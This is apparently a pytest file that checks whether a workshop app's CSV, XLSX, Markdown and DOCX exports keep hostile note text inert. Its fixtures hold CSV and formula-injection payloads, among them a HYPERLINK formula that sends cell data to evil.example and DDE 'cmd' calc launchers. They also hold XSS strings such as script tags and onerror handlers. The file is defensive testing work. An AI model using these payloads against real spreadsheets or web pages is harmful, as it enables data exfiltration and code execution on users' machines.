"""Hostile text in every export: shown as written, never run, never breaking the file."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import docx
import openpyxl
import pytest

from facilitator.commands import CreateNote, UpdateBoard
from facilitator.export.exporter import ExportFormat, export_session
from facilitator.export.selection import Selection
from facilitator.services.participation import ParticipationService
from facilitator.services.workshop import WorkshopService

NOW = datetime(2026, 11, 22, 15, 0, tzinfo=UTC)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b>bold</b> [link](javascript:alert(1)) # heading",
)
CONTROL = "bell\x07 nul\x00 escape\x1b[31m red"


@pytest.fixture
def hostile(service: WorkshopService) -> WorkshopService:
    board = service.boards()[0].id
    service.execute(UpdateBoard(board, title="=cmd|' /C calc'!A0 <b>x</b>"))
    participation = ParticipationService(service)
    person, _ = participation.join('=HYPERLINK("http://evil.example") <i>Eve</i>')
    for index, text in enumerate((*FORMULAS, *MARKUP, CONTROL)):
        participation.add_note(person.id, text, f"c{index}", board_id=board)
    service.execute(
        CreateNote(board, "\u202eevil\u202c \u200b zero-width 👩‍👩‍👧 e" + "\u0301" * 400)
    )
    participation.close()
    return service


def _export(service: WorkshopService, fmt: ExportFormat, path: Path) -> Path:
    return export_session(service.snapshot(), fmt, path, Selection(), NOW)


def test_csv_cells_never_start_a_formula(hostile: WorkshopService, tmp_path: Path) -> None:
    path = _export(hostile, ExportFormat.CSV, tmp_path / "notes.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    texts = {row[2] for row in rows[1:]}
    # Shown as written after the apostrophe that keeps a spreadsheet from running it.
    assert {f"'{text}" for text in FORMULAS} <= texts
    assert set(MARKUP) <= texts
    assert all(row[0].startswith("'=cmd") for row in rows[1:])


def test_xlsx_stores_formula_like_text_as_text(hostile: WorkshopService, tmp_path: Path) -> None:
    path = _export(hostile, ExportFormat.XLSX, tmp_path / "notes.xlsx")
    book = openpyxl.load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    # In a workbook a text cell is never evaluated: the text is kept exactly.
    assert set(FORMULAS) <= set(values)
    assert set(MARKUP) <= set(values)


def test_markdown_escapes_markup(hostile: WorkshopService, tmp_path: Path) -> None:
    text = _export(hostile, ExportFormat.MD, tmp_path / "notes.md").read_text("utf-8")
    # No markup reaches a Markdown viewer: every "<" and "[" is escaped.
    assert not re.search(r"(?<!\\)[<\[]", text)
    assert r"\<script\>alert(1)\</script\>" in text
    assert r"\[link\](javascript:alert(1))" in text


def test_docx_keeps_markup_as_plain_text(hostile: WorkshopService, tmp_path: Path) -> None:
    path = _export(hostile, ExportFormat.DOCX, tmp_path / "minutes.docx")
    document = docx.Document(str(path))
    text = "\n".join(p.text for p in document.paragraphs)
    for payload in (*MARKUP, FORMULAS[0]):
        assert payload in text
